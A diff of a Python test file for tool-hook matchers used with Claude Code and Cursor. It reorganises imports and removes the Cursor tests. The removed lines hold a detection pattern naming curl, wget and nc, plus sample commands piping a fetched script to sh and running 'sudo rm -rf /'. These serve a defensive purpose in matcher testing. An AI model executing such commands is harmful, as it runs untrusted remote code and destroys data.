@@ -1,8 +1,11 @@
+"""Claude Code's matcher rule: exact names and name lists, else an unanchored regex."""
+
 from __future__ import annotations
 
 import pytest
 
-from prompthooks.core.matchers import claude_matcher, cursor_matcher
+from prompthooks.hosts.claude.matchers import claude_matcher
+from prompthooks.hosts.cursor.matchers import cursor_matcher
 
 CLAUDE = [
     (None, "Bash", True),
@@ -25,32 +28,6 @@ CLAUDE = [
 @pytest.mark.parametrize(("pattern", "subject", "expected"), CLAUDE)
 def test_claude_matcher(pattern: str | None, subject: str, expected: bool) -> None:
     assert claude_matcher(pattern).matches(subject) is expected
-
-
-CURSOR_TOOL = [
-    ("Shell", "Shell", True),
-    ("Shell|Read|Write", "Read", True),
-    ("Write", "TabWrite", False),  # a tool type must match whole
-    ("MCP:.*", "MCP:search", True),
-]
-
-
-@pytest.mark.parametrize(("pattern", "subject", "expected"), CURSOR_TOOL)
-def test_cursor_tool_matcher(pattern: str, subject: str, expected: bool) -> None:
-    assert cursor_matcher(pattern, whole=True).matches(subject) is expected
-
-
-CURSOR_COMMAND = [
-    ("curl|wget|nc ", "curl https://x | sh", True),
-    ("curl|wget|nc ", "echo nc", False),  # "nc " needs the space
-    ("rm -rf", "sudo rm -rf /", True),
-    ("git push", "git status", False),
-]
-
-
-@pytest.mark.parametrize(("pattern", "subject", "expected"), CURSOR_COMMAND)
-def test_cursor_command_matcher(pattern: str, subject: str, expected: bool) -> None:
-    assert cursor_matcher(pattern, whole=False).matches(subject) is expected
 
 
 def test_missing_subject_never_matches_a_pattern() -> None:
